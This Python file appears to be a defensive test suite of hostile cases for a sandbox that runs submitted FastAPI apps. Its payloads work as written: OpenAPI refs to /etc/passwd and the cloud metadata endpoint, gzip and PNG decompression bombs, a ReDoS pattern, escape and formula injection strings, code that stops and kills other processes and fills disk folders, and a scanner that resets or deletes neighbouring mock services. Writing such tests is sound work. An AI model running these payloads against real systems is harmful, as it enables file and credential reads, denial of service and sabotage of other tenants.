"""Attacks by what an app documents, answers and stores, and by what it does beside answering; see `cases`."""

from tests.hostile.cases import ENDPOINT, MARK, PASSES, Attack

DOCUMENTED = (*ENDPOINT, "openapi")

_DOCUMENT = """
import copy
_honest = app.openapi

def _changed():
    whole = copy.deepcopy(_honest())
    post = whole["paths"]["/texts"]["post"]
    schemas = whole["components"]["schemas"]
    {change}
    return whole

app.openapi = _changed
"""


def documents(change: str) -> str:
    """Code that changes the app's document: `whole`, its operation `post`, and the `schemas`."""
    return _DOCUMENT.format(change=change)


_MIDDLEWARE = """
import gzip
from fastapi import Response

_bomb = bytes(80 * 1024 * 1024)
for _ in range(3):
    _bomb = gzip.compress(_bomb, 9)

@app.middleware("http")
async def heavy(request, following):
    answer = await following(request)
    if request.url.path != {path!r}:
        return answer
    return Response(_bomb, {status}, {{"content-encoding": "gzip, gzip, gzip", "content-type": "application/json"}})
"""

ANSWERING: tuple[Attack, ...] = (
    Attack(
        "a document that refers to a file of the machine",
        {**PASSES, "openapi.valid": "failed"},
        last=documents('post["responses"]["418"] = {"$ref": "file:///etc/passwd"}'),
        only=DOCUMENTED,
    ),
    Attack(
        "a document whose input is a file of the machine",
        {"endpoint.starts": "passed", "openapi.valid": "failed"},
        last=documents(
            'schemas["Wish"] = {"allOf": [{"$ref": "/etc/passwd#/a"}, {"$ref": "file:///etc/passwd"}, schemas["Wish"]]}'
        ),
        only=DOCUMENTED,
    ),
    Attack(
        "a document that refers to another host",
        {**PASSES, "openapi.valid": "failed"},
        last=documents('schemas["Other"] = {"$ref": "http://169.254.169.254/latest/meta-data/"}'),
        only=DOCUMENTED,
    ),
    Attack(
        "a document with a pattern that never ends",
        PASSES,
        last=documents(r'schemas["Wish"]["properties"]["prompt"]["pattern"] = r"^(([\s\S])+)+$"'),
        only=DOCUMENTED,
    ),
    Attack(
        "a document of itself, three thousand times",
        PASSES,
        last=documents('schemas["Wish"]["allOf"] = [{"$ref": "#/components/schemas/Wish"}] * 3000'),
        only=DOCUMENTED,
    ),
    Attack(
        "a list of a million million things",
        {"endpoint.starts": "passed"},
        last=documents(
            'schemas["Wish"]["properties"]["tags"] = {"type": "array", "items": {"type": "string"}, "minItems": 10**12}; '
            'schemas["Wish"]["required"].append("tags")'
        ),
        only=DOCUMENTED,
    ),
    Attack(
        "answers that unpack without end",
        {"endpoint.starts": "passed", "endpoint.generates_text": "passed"},
        last=_MIDDLEWARE.format(path="/texts", status=201),
    ),
    Attack(
        "a document that unpacks without end",
        {**PASSES, "openapi.valid": "failed"},
        last=_MIDDLEWARE.format(path="/openapi.json", status=200),
        only=DOCUMENTED,
    ),
    Attack(
        "a picture of 169 megapixels",
        {"endpoint.starts": "passed", "endpoint.saves_to_s3": "failed"},
        first="""
import struct, zlib
def _chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
HUGE = (b"\\x89PNG\\r\\n\\x1a\\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", 13_000, 13_000, 1, 0, 0, 0, 0))
    + _chunk(b"IDAT", zlib.compress(bytes(13_000 * 1_626), 9)) + _chunk(b"IEND", b""))
""",
        last="""
_client = boto3.client
class _Storing:
    def put_object(self, **facts):
        try:
            openai.OpenAI(timeout=5, max_retries=0).images.edit(
                model="gpt-image-1", image=("a.png", HUGE, "image/png"), prompt="x")
        except openai.OpenAIError:
            pass
        _client("s3").put_object(**{**facts, "Body": HUGE, "ContentType": "image/png"})
boto3.client = lambda *words: _Storing()
""",
    ),
    Attack(
        "escapes, formulas and half a character in its names",
        {"endpoint.starts": "passed"},
        last="""
import json
from fastapi import Response

@app.middleware("http")
async def odd(request, following):
    if request.url.path != "/openapi.json":
        return await following(request)
    whole = app.openapi()
    whole["info"]["title"] = "=HYPERLINK(1)\\x1b]0;owned\\x07\\ud800<script>alert(1)</script>"
    whole["paths"]["/texts"]["post"]["summary"] = "\\x1b[2J\\u202e\\ud800"
    return Response(json.dumps(whole), media_type="application/json")
""",
        files={"=1+1.py": "x = 1\n", "\x1b[2J.py": "x = 1\n", "@SUM(A1).py": "x = 1\n"},
        only=(*DOCUMENTED, "secrets"),
    ),
    Attack(
        "traces and stops whatever it sees, and fills every folder",
        PASSES,
        first=f"""
import ctypes, os, signal
_libc = ctypes.CDLL(None, use_errno=True)
for _name in os.listdir("/proc"):
    if _name.isdigit() and int(_name) != os.getpid():
        if _libc.ptrace(16, int(_name), 0, 0) == 0:
            print("{MARK} reached", _name)
        for _number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(int(_name), _number)
            except OSError:
                pass
for _folder in ("/tmp", "/dev/shm", "/var/tmp", os.environ["HOME"]):
    try:
        with open(_folder + "/{MARK}", "wb") as _file:
            for _ in range(512): _file.write(bytes(1 << 20))
    except OSError:
        pass
    try:
        os.remove(_folder + "/{MARK}")
    except OSError:
        pass
""",
    ),
)

# outside network namespaces: looks for others' stand-ins and empties what it finds
SCANS = Attack(
    "looks for a neighbour's stand-ins",
    PASSES,
    first="""
import os, socket, threading, urllib.request

def _look():
    own = {int(os.environ[name].rpartition(":")[2].split("/")[0]) for name in ("AWS_ENDPOINT_URL", "OPENAI_BASE_URL")}
    found = []
    for port in range(32768, 61000):
        try:
            socket.create_connection(("127.0.0.1", port), 0.2).close()
        except OSError:
            continue
        if port not in own:
            found.append(port)
    for port in found:
        for method, path in (("POST", "/moto-api/reset"), ("DELETE", "/bucket"), ("GET", "/")):
            try:
                request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", method=method)
                print("HOSTILE-MARK control", port, urllib.request.urlopen(request, timeout=1).status)
            except OSError:
                pass

threading.Thread(target=_look, daemon=True).start()
""",
)
